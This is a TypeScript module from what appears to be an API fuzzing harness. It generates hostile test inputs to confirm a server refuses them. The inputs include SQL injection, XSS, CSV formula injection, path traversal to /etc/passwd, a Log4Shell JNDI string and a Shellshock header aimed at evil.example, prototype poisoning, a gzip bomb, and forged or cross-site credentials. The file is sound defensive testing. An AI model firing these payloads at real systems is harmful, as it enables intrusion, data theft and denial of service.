/**
 * The hostile material the cases are made of: texts, numbers, ids, broken bodies, content types,
 * credentials and header noise. Each list says what the contract lets it be used for: a value from an
 * `invalid…` list makes any request refused on its own; a `noise` value is well-formed and may be
 * accepted, so it goes only into requests refused for another reason, or into reads.
 */
import { gzipSync } from 'node:zlib'
import type { Context } from './cases.js'
import type { Random } from './random.js'

/** A JSON token written as is: numbers no JavaScript number can hold exactly, `-0`, `1e400`. */
export class RawJson {
  constructor(readonly text: string) {}
}
export const raw = (text: string) => new RawJson(text)

/** JSON.stringify, but RawJson goes out verbatim; lone surrogates come out as `\ud800` escapes (ES2019). */
export function toJson(value: unknown): string {
  if (value instanceof RawJson) return value.text
  if (Array.isArray(value)) return `[${value.map(toJson).join(',')}]`
  if (value !== null && typeof value === 'object') {
    return `{${Object.entries(value)
      .map(([key, item]) => `${JSON.stringify(key)}:${toJson(item)}`)
      .join(',')}}`
  }
  return JSON.stringify(value) ?? 'null'
}

// ---------------------------------------------------------------------------------------------------
// Texts

const letters = 'abcdefghijkmnopqrstuvwxyz'
const loneSurrogates = ['\ud800', '\udbff', '\udc00', '\udfff', '\ud83d', '\ude00']

function plainText(rng: Random, length: number): string {
  return Array.from({ length }, () => rng.pick(letters)).join('')
}

/** Text of an allowed length that no text field may take: one lone surrogate (ill-formed Unicode) in it. */
export function illFormedText(rng: Random, min: number, max: number): { what: string; value: string } {
  const length = rng.int(Math.max(min, 1), Math.max(min, Math.min(max, min + 12)))
  const chars = [...plainText(rng, length)]
  const at = rng.int(0, length - 1)
  chars[at] = rng.pick(loneSurrogates)
  // A reversed pair is two lone surrogates, not an emoji.
  if (rng.chance(0.2) && length >= 2) {
    chars[0] = '\ude00'
    chars[1] = '\ud83d'
  }
  return { what: 'ill-formed Unicode (lone surrogate)', value: chars.join('') }
}

/** Text of an allowed length with a NUL in it: PostgreSQL text cannot hold it. */
export function nulText(rng: Random, min: number, max: number): { what: string; value: string } {
  const length = rng.int(Math.max(min, 1), Math.max(min, Math.min(max, min + 12)))
  const chars = [...plainText(rng, length)]
  chars[rng.int(0, length - 1)] = '\u0000'
  return { what: 'NUL character', value: chars.join('') }
}

/** Well-formed text an attacker would try: SQL, HTML/script, CSV formulas, paths, templates. */
export const injections = [
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  '1; SELECT pg_sleep(10)--',
  '" OR ""="',
  "' UNION SELECT password_hash FROM users--",
  "'); DELETE FROM transacoes; --",
  '$1',
  '${7*7}',
  '{{7*7}}',
  '%s%s%s%n',
  '\\',
  "\\'",
  '`id`',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '<!--',
  ']]>',
  '</script><script>alert(1)</script>',
  '=HYPERLINK("http://evil.example","x")',
  '+SUM(1+1)',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '/etc/passwd',
  'file:///etc/passwd',
  '%2e%2e%2f%2e%2e%2f',
  '__proto__',
  'constructor',
  'prototype',
  'null',
  'undefined',
  'NaN',
  'true',
  '-1',
  '0',
  '[]',
  '{}'
]

/** Well-formed but unusual text: control characters, direction marks, combining marks, astral characters. */
export const oddTexts = [
  '\u0007\u0008\u001b[31mred',
  '\r\n\r\nX-Injected: 1',
  '\u202eevil\u202c',
  '\u200b\u200b\u200b\u200b\u200b',
  '\ufeffbom',
  '\uffff\ufffe',
  '😀😀😀😀😀😀',
  'Zoë Ünïcødé',
  'e\u0301e\u0301e\u0301e\u0301e\u0301',
  '\u0085\u2028\u2029',
  '\u00a0\u00a0\u00a0\u00a0\u00a0',
  'ＡＢＣＤＥ',
  '𝕳𝖊𝖑𝖑𝖔 𝖜𝖔𝖗𝖑𝖉',
  'a'.repeat(2000),
  '🏳️‍🌈'.repeat(10)
]

export function noiseText(rng: Random): string {
  return rng.chance(0.6) ? rng.pick(injections) : rng.pick(oddTexts)
}

// ---------------------------------------------------------------------------------------------------
// Numbers and types

/** Never a string: for text fields. */
export const notAString: unknown[] = [null, 0, 1, -1, raw('1.5'), true, false, [], {}, ['text'], { text: 'x' }]

/** Never an integer: for integer fields. */
export const notAnInteger: unknown[] = [
  raw('1.5'),
  raw('0.1'),
  raw('1e-7'),
  raw('1e400'),
  raw('-1e400'),
  raw('1.0000000000000002'),
  '1',
  '100',
  '0x10',
  '1e3',
  '',
  ' 1',
  null,
  true,
  false,
  [],
  {},
  [1],
  { value: 1 },
  'NaN',
  'Infinity'
]

/** Integers (as JSON tokens) past `min`..`max`: just beyond, past int32, past 2^53, and absurd. */
export function integersOutside(min: number, max: number): RawJson[] {
  const candidates = [
    String(min - 1),
    String(max + 1),
    '-0',
    '0',
    '-1',
    '2147483648',
    '-2147483649',
    '4294967296',
    '9007199254740992',
    '9007199254740993',
    '-9007199254740993',
    '18446744073709551616',
    '1e21',
    '-1e21',
    '123456789012345678901234567890',
    '1E10'
  ]
  return candidates
    .filter((text) => {
      const n = Number(text)
      return (n < min || n > max) && !(text === '-0' && min <= 0 && max >= 0)
    })
    .map(raw)
}

// ---------------------------------------------------------------------------------------------------
// Ids in paths

/**
 * Path segments that are never a positive decimal id of an existing row (1–5 for clients, the seeded
 * course units and departments aside): zero, signs, other notations, encodings, huge and long ones.
 * None percent-decodes to a valid id.
 */
export const numericIdTricks = [
  '0',
  '-1',
  '-0',
  '00',
  '01',
  '+1',
  '1.0',
  '1e3',
  '0x10',
  '0b1',
  '1,2',
  '1_000',
  'abc',
  'NaN',
  'Infinity',
  'null',
  'undefined',
  'true',
  '%20',
  '%201',
  '1%20',
  '%00',
  '1%00',
  '%0a1',
  '1%0d%0a',
  '%2e%2e',
  '..',
  '.',
  '%2F',
  '1%2F..%2F2',
  '%5B1%5D',
  '[1]',
  '%ff',
  '%c0%ae',
  '%ed%a0%80',
  '%e0%80%af',
  '%',
  '%%',
  '%zz',
  '%u0031',
  '%D9%A1',
  '%EF%BC%91',
  '2147483648',
  '-2147483649',
  '4294967297',
  '99999999999',
  '9'.repeat(20),
  '9'.repeat(999),
  '9'.repeat(1000),
  '1'.repeat(1001),
  'a'.repeat(1001),
  '9'.repeat(4000),
  "'%20OR%20'1'='1",
  "1'%20OR%201=1--",
  '<script>',
  '%3Cscript%3E',
  '$%7B7*7%7D',
  '6',
  '7',
  '2147483647'
]

/** Segments that are never a sheet id of the setup (and mostly not one at all). */
export function sheetIdTricks(rng: Random, existing: string): string[] {
  const swapped = [...existing].map((c) => (c === c.toUpperCase() ? c.toLowerCase() : c.toUpperCase())).join('')
  const unknown = Array.from({ length: 6 }, () =>
    rng.pick('23456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz')
  ).join('')
  return [
    unknown,
    unknown,
    swapped,
    existing.slice(0, 5),
    `${existing}x`,
    `${existing}%00`,
    `%00${existing.slice(1)}`,
    ` ${existing}`.replace(' ', '%20'),
    '',
    'abcde',
    'abcdefg',
    '000000',
    '111111',
    'IIIIII',
    'llllll',
    'OOOOOO',
    '......',
    '%2e%2e%2f%2e',
    "'%20OR%20'1'='1",
    "';--%20",
    '<svg>',
    '%3Cscript%3E',
    '%ff%ff%ff',
    '%ed%a0%80abc',
    '%F0%9F%98%80'.repeat(6),
    '%C3%A9'.repeat(6),
    'x'.repeat(1000),
    'x'.repeat(1001),
    'y'.repeat(3000),
    '%',
    '%zz',
    existing.toLowerCase() === existing ? 'ZZZZZZ' : existing.toLowerCase()
  ].filter((id) => id !== existing)
}

/** Keys for `GET /increment/:key`: long, encoded, traversal and injection (reads only: any of them may exist). */
export const keyTricks = [
  '',
  '%20',
  'x'.repeat(200),
  'x'.repeat(201),
  'x'.repeat(1000),
  'x'.repeat(1001),
  'x'.repeat(5000),
  '%00',
  'a%00b',
  '%ff',
  '%c0%ae',
  '%ed%a0%80',
  '%e0%80%af',
  '%',
  '%zz',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..',
  '.',
  '%2F',
  "'%20OR%20'1'='1",
  '%3Cscript%3E',
  '%F0%9F%98%80',
  '%E2%80%AE',
  '%0d%0aX-Injected:%201',
  '__proto__',
  'constructor',
  '%5B%5D'
]

// ---------------------------------------------------------------------------------------------------
// Bodies

export interface BrokenBody {
  what: string
  body: string | Buffer
  /** Framing that goes with the body (Content-Encoding, chunked upload). */
  headers?: Record<string, string>
}

/**
 * A body no JSON route may accept. `valid` is a valid body's JSON text (used only where the breakage
 * itself is certain to be refused); `invalid` is an invalid one's (used where a lenient parser might
 * still read it). `mergeable`: `invalid` replaced a field of `valid` (so appending it repeats keys,
 * the invalid value last).
 */
export function brokenBody(rng: Random, valid: string, invalid: string, mergeable: boolean): BrokenBody {
  const options: Array<readonly [number, () => BrokenBody]> = [
    [4, () => ({ what: 'truncated JSON', body: valid.slice(0, rng.int(0, valid.length - 1)) })],
    [1, () => ({ what: 'empty body', body: '' })],
    [1, () => ({ what: 'whitespace body', body: ' \r\n\t ' })],
    [4, () => ({ what: 'malformed JSON', body: rng.pick(malformedJson) })],
    [1, () => ({ what: 'JSON then garbage', body: `${valid}${rng.pick(['x', '}', ',', valid, ' null', '\u0000'])}` })],
    [1, () => ({ what: 'comment before JSON', body: `${rng.pick(['/* c */', '// c\n', '#c\n'])}${valid}` })],
    [
      1,
      () => ({
        what: 'raw control character in a string',
        body: valid.replace(/"([^"]*)"/, `"$1${rng.pick(['\u0000', '\u0001', '\t', '\n', '\u001f'])}"`)
      })
    ],
    [
      1,
      () => ({
        what: 'bad escape',
        body: valid.replace(/"([^"]*)"/, `"$1${rng.pick(['\\x41', '\\u12', '\\uZZZZ', '\\', '\\ud800\\u'])}"`)
      })
    ],
    [1, () => ({ what: 'UTF-16 body', body: Buffer.from(valid, 'utf16le') })],
    [1, () => ({ what: 'invalid UTF-8 bytes', body: invalidUtf8(rng, invalid) })],
    [1, () => ({ what: 'byte order mark', body: `\ufeff${invalid}` })],
    [
      1,
      () => ({
        what: 'prototype poisoning',
        body: `{${rng.pick(['"__proto__":{"isAdmin":true}', '"constructor":{"prototype":{"isAdmin":true}}'])},${invalid.slice(1)}`
      })
    ],
    [
      mergeable ? 1 : 0,
      () => ({ what: 'duplicate keys, invalid value last', body: `${valid.slice(0, -1)},${invalid.slice(1)}` })
    ],
    [2, () => deepBody(rng, invalid)],
    [1, () => manyKeys(rng, invalid)],
    [2, () => oversized(rng, valid)],
    [1, () => compressed(rng, invalid)]
  ]
  return rng.weighted(options)()
}

const malformedJson = [
  '{',
  '}',
  '[',
  '{"',
  '{"a"',
  '{"a":',
  '{"a":}',
  '{"a":1,}',
  '{,}',
  "{'a':1}",
  '{a:1}',
  '[1,2',
  'nul',
  'tru',
  'NaN',
  'Infinity',
  'undefined',
  '{"a":1}{"b":2}',
  '{"a":01}',
  '{"a":+1}',
  '{"a":.5}',
  '{"a":1.}',
  '{"a":0x10}',
  '{"a":"unterminated}',
  '{"a":-}',
  '{"a":1e}',
  '{"a"::1}',
  '{"a" 1}',
  '{"a":[1,,2]}',
  '{"a":"\\',
  '\u0000',
  '\u0000{"a":1}',
  '{"a":1}\u0000',
  '"\\ud800',
  '{"\\ud800":}',
  ']',
  '{}}',
  '{{}}',
  '[}',
  '{]'
]

/** `invalid` with a field holding bytes that are not UTF-8 (overlong, surrogate, stray continuation). */
function invalidUtf8(rng: Random, invalid: string): Buffer {
  const bytes = rng.pick([
    [0xff],
    [0xfe, 0xff],
    [0xc0, 0xaf],
    [0xe0, 0x80, 0xaf],
    [0xed, 0xa0, 0x80],
    [0x80, 0x80],
    [0xf4, 0x90, 0x80, 0x80],
    [0xc3]
  ])
  return Buffer.concat([Buffer.from('{"x":"'), Buffer.from(bytes), Buffer.from('",'), Buffer.from(invalid.slice(1))])
}

/** Nesting thousands deep in the first field (within the body limit): parsers and validators that recurse overflow the stack. */
function deepBody(rng: Random, invalid: string): BrokenBody {
  const depth = rng.pick([1000, 5000, 10_000, 20_000, 30_000])
  const nested = rng.chance(0.5)
    ? `${'['.repeat(depth)}${']'.repeat(depth)}`
    : `${'{"a":'.repeat(Math.floor(depth / 3))}1${'}'.repeat(Math.floor(depth / 3))}`
  return { what: `nested ${depth} deep`, body: `{"deep":${nested},${invalid.slice(1)}` }
}

/** Thousands of distinct keys: a parser or validator slow per key (hash flooding) stalls the replica. */
function manyKeys(rng: Random, invalid: string): BrokenBody {
  const count = rng.pick([1000, 5000, 8000])
  const keys = Array.from({ length: count }, (_, i) => `"k${i}":${i}`).join(',')
  return { what: `${count} keys`, body: `{${keys},${invalid.slice(1)}` }
}

/**
 * A body past BODY_LIMIT_BYTES (64 KiB by default): 413 before it is parsed. Sent chunked half the
 * time, when no Content-Length announces it and the limit must be counted as it arrives.
 */
function oversized(rng: Random, valid: string): BrokenBody {
  const size = rng.weighted([
    [8, 70_000],
    [4, 300_000],
    [1, 2_000_000]
  ] as const)
  const chunked = rng.chance(0.5)
  return {
    what: `${size}-byte body${chunked ? ', chunked' : ''}`,
    body: `{"pad":"${'x'.repeat(size)}",${valid.slice(1)}`,
    headers: chunked ? { 'transfer-encoding': 'chunked' } : undefined
  }
}

// 20 MB of spaces in 20 KB: made once, since gzip members concatenate into one stream.
let bombStart: Buffer | undefined

/** A compressed request body (a server may inflate it; then it must still refuse it), a small bomb included. */
function compressed(rng: Random, invalid: string): BrokenBody {
  const encoding = rng.pick(['gzip', 'deflate', 'br', 'x-unknown', 'gzip, gzip', 'identity'])
  const bomb = encoding === 'gzip' && rng.chance(0.3)
  bombStart ??= gzipSync(`{"pad":"${' '.repeat(20_000_000)}",`)
  const body = bomb
    ? Buffer.concat([bombStart, gzipSync(invalid.slice(1))])
    : encoding.startsWith('gzip')
      ? gzipSync(invalid)
      : invalid
  return {
    what: `Content-Encoding ${encoding}${bomb ? ' (20 MB inflated)' : ''}`,
    body,
    headers: { 'content-encoding': encoding }
  }
}

/** Content types that are not JSON: a valid body sent under them is still not a JSON body (text/plain is the CSRF one). */
export const nonJsonTypes = [
  'text/plain',
  'text/plain;charset=UTF-8',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=fuzz',
  'application/xml',
  'text/xml',
  'application/octet-stream',
  'text/html',
  'image/png',
  'application/javascript',
  'text/csv',
  'application/jsonp'
]

/** Content types a lenient server might read as JSON: sent only with invalid bodies. */
export const doubtfulTypes: Array<string | null> = [
  null,
  '',
  'application/json; charset=utf-16',
  'APPLICATION/JSON',
  'application/json;;;',
  'application/json; charset=latin1',
  'application/merge-patch+json',
  'application/vnd.api+json',
  '*/*',
  'application/*',
  'text/json',
  'application/x-json',
  `application/json; x=${'a'.repeat(2000)}`,
  'application/json, text/plain',
  'json',
  ';',
  'application/json\u00ff'
]

// ---------------------------------------------------------------------------------------------------
// Credentials

export interface Auth {
  what: string
  headers: Record<string, string>
}

const cookie = (token: string) => `tandem_session=${token}`
const bearer = (token: string) => `Bearer ${token}`

function forgedToken(rng: Random): string {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'
  return Array.from({ length: 43 }, () => rng.pick(alphabet)).join('')
}

/**
 * Credentials that must never authorise a write: none, forged, expired, idle, logged out, revoked by a
 * password change, malformed, and a live cookie sent from another site.
 */
export function deadAuth(rng: Random, ctx: Context): Auth {
  const live = ctx.teacher.token
  const dead = ctx.deadTokens
  const options: Array<() => Auth> = [
    () => ({ what: 'no credentials', headers: {} }),
    () => ({ what: 'forged bearer token', headers: { authorization: bearer(forgedToken(rng)) } }),
    () => ({ what: 'forged session cookie', headers: { cookie: cookie(forgedToken(rng)) } }),
    () => ({ what: 'expired session (bearer)', headers: { authorization: bearer(dead.expired) } }),
    () => ({ what: 'expired session (cookie)', headers: { cookie: cookie(dead.expired) } }),
    () => ({ what: 'idle session (bearer)', headers: { authorization: bearer(dead.idle) } }),
    () => ({ what: 'logged-out session (bearer)', headers: { authorization: bearer(dead.loggedOut) } }),
    () => ({ what: 'logged-out session (cookie)', headers: { cookie: cookie(dead.loggedOut) } }),
    () => ({
      what: 'session revoked by a password change',
      headers: { authorization: bearer(dead.revokedByPasswordChange) }
    }),
    () => ({ what: 'live token with a byte more', headers: { authorization: bearer(`${live}A`) } }),
    () => ({ what: 'live token truncated', headers: { authorization: bearer(live.slice(0, -1)) } }),
    () => ({
      what: 'live token upper-cased',
      headers: { authorization: bearer(live.toUpperCase() === live ? live.toLowerCase() : live.toUpperCase()) }
    }),
    () => ({
      what: 'empty bearer',
      headers: { authorization: rng.pick(['Bearer', 'Bearer ', 'Bearer  ', 'Bearer\t']) }
    }),
    () => ({ what: 'huge bearer', headers: { authorization: bearer('A'.repeat(rng.pick([1000, 8000]))) } }),
    () => ({
      what: 'bearer with injection',
      headers: { authorization: bearer(rng.pick(["'OR'1'='1", '<script>', '..%2f..%2f', '%00', '${jndi:ldap://x}'])) }
    }),
    () => ({
      what: 'other scheme',
      headers: {
        authorization: rng.pick([
          'Basic dXNlcjpwYXNz',
          'Digest x',
          'Negotiate x',
          'Bearer a b',
          'bearer',
          'x'.repeat(100)
        ])
      }
    }),
    () => ({
      what: 'malformed cookie header',
      headers: {
        cookie: rng.pick([
          'tandem_session',
          'tandem_session=',
          '=;=;=',
          'tandem_session="',
          'tandem_session=%ff%fe',
          `tandem_session=${'%'.repeat(50)}`,
          ';;;;',
          'a=b; tandem_session'
        ])
      }
    }),
    () => crossSite(rng, live)
  ]
  return rng.pick(options)()
}

/** The teacher's live cookie on a write from another site: refused (403) or, where sessions are optional, ignored. */
export function crossSite(rng: Random, token: string): Auth {
  const [what, headers] = rng.pick([
    ['Origin of another site', { origin: 'https://evil.example' }],
    ['Origin null', { origin: 'null' }],
    ['Origin on another port', { origin: 'http://127.0.0.1:1' }],
    ['Origin with a look-alike host', { origin: 'http://127.0.0.1.evil.example' }],
    ['malformed Origin', { origin: 'http://[::1' }],
    ['Sec-Fetch-Site cross-site', { 'sec-fetch-site': 'cross-site' }],
    ['Sec-Fetch-Site same-site', { 'sec-fetch-site': 'same-site' }],
    ['Sec-Fetch-Site cross-site, Origin absent', { 'sec-fetch-site': 'cross-site', referer: 'https://evil.example/' }]
  ] as const)
  return { what: `cross-site cookie write (${what})`, headers: { cookie: cookie(token), ...headers } }
}

/** Credentials for reads: live ones of either teacher, or any dead ones. */
export function anyAuth(rng: Random, ctx: Context): Auth {
  return rng.weighted<() => Auth>([
    [3, () => ({ what: "the teacher's bearer token", headers: { authorization: bearer(ctx.teacher.token) } })],
    [2, () => ({ what: "the teacher's cookie", headers: { cookie: cookie(ctx.teacher.token) } })],
    [2, () => ({ what: "another teacher's bearer token", headers: { authorization: bearer(ctx.other.token) } })],
    // Which one counts is the server's choice (a forged header cannot come from another site): reads only.
    [
      1,
      () => ({
        what: 'live cookie but a forged bearer',
        headers: { authorization: bearer(forgedToken(rng)), cookie: cookie(ctx.teacher.token) }
      })
    ],
    [4, () => deadAuth(rng, ctx)]
  ])()
}

export const teacherBearer = (ctx: Context) => ({ authorization: bearer(ctx.teacher.token) })
export const otherBearer = (ctx: Context) => ({ authorization: bearer(ctx.other.token) })

// ---------------------------------------------------------------------------------------------------
// Header and query noise (values node:http will send: no control characters, Latin-1 at most)

const noiseHeaders: Array<readonly [string, readonly string[]]> = [
  [
    'user-agent',
    ["'; DROP TABLE users; --", '<script>alert(1)</script>', 'x'.repeat(4000), '() { :; }; echo pwned', '']
  ],
  [
    'accept',
    [
      '*/*',
      'text/html',
      'text/plain',
      'application/json;q=0, text/plain',
      'garbage',
      '',
      'text/*;q=abc',
      'application/xml',
      'image/*'
    ]
  ],
  [
    'accept-encoding',
    ['br', 'gzip', 'deflate', 'identity;q=0', '*;q=0', 'br;q=2, gzip;q=-1', 'x'.repeat(1000), 'gzip, gzip, gzip']
  ],
  ['accept-language', ['*', 'pt-PT,pt;q=0.9', 'x'.repeat(500), "';--"]],
  [
    'x-forwarded-for',
    ['1.2.3.4', '::1, 127.0.0.1', 'garbage', '999.999.999.999', `${'1.1.1.1, '.repeat(200)}1.1.1.1`, '']
  ],
  ['x-forwarded-host', ['evil.example', 'evil.example:99999', '<script>']],
  ['x-forwarded-proto', ['https', 'gopher', 'javascript']],
  ['forwarded', ['for=1.2.3.4;proto=https;host=evil.example', 'garbage;;;']],
  ['x-real-ip', ['1.2.3.4', 'not-an-ip']],
  ['referer', ['https://evil.example/', 'javascript:alert(1)', 'x'.repeat(3000)]],
  ['x-request-id', ['x'.repeat(5000), "'; DROP TABLE sessions; --", '\u00ff\u00fe']],
  ['if-none-match', ['*', '"x"', 'W/"garbage"', 'x'.repeat(1000)]],
  ['if-modified-since', ['garbage', 'Thu, 01 Jan 1970 00:00:00 GMT', 'Fri, 31 Dec 9999 23:59:59 GMT']],
  [
    'range',
    [
      'bytes=0-0',
      'bytes=-1',
      'bytes=999999999-',
      'bytes=a-b',
      'bytes=0-1,2-3,4-5',
      'bytes=5-1',
      'items=0-1',
      `bytes=${'0-1,'.repeat(500)}0-1`
    ]
  ],
  ['x-http-method-override', ['DELETE', 'PUT']],
  ['idempotency-key', ['', 'x'.repeat(5000), "'; DROP TABLE transacoes; --", '\u00ff']],
  ['last-event-id', ['garbage', '-1', 'x'.repeat(2000)]],
  ['x-fuzz', ['\u00e9\u00e8\u00ff', '%00', '${jndi:ldap://evil.example/a}']]
]

/** One to three noise headers. Never credentials, Content-Type, Content-Length or Host. */
export function headerNoise(rng: Random): { what: string; headers: Record<string, string> } {
  const headers: Record<string, string> = {}
  for (let n = rng.int(1, 3); n > 0; n--) {
    const [name, values] = rng.pick(noiseHeaders)
    headers[name] = rng.pick(values)
  }
  return { what: `noise headers ${Object.keys(headers).join(', ')}`, headers }
}

const queries = [
  '?a=%zz',
  '?%',
  '?__proto__[isAdmin]=1',
  '?constructor[prototype][x]=1',
  `?q=${'x'.repeat(8000)}`,
  '?a[]=1&a[]=2',
  '?%00=%00',
  '?;;;',
  '?&&&==',
  "?id='%20OR%201=1--",
  '?q=<script>alert(1)</script>',
  '?id=1&id=2&id=3',
  `?${'a=1&'.repeat(1000)}`,
  '?=',
  '?a=%ed%a0%80',
  '?a=%c0%ae%c0%ae',
  '?callback=alert',
  '?format=csv',
  '?%E2%80%AE=1'
]

export function queryNoise(rng: Random): string {
  return rng.pick(queries)
}

export function withQuery(rng: Random, path: string, probability: number): { path: string; what?: string } {
  if (!rng.chance(probability)) return { path }
  const query = queryNoise(rng)
  return {
    path: `${path}${query}`,
    what: `query ${query.length > 40 ? `${query.slice(0, 40)}… (${query.length} chars)` : query}`
  }
}
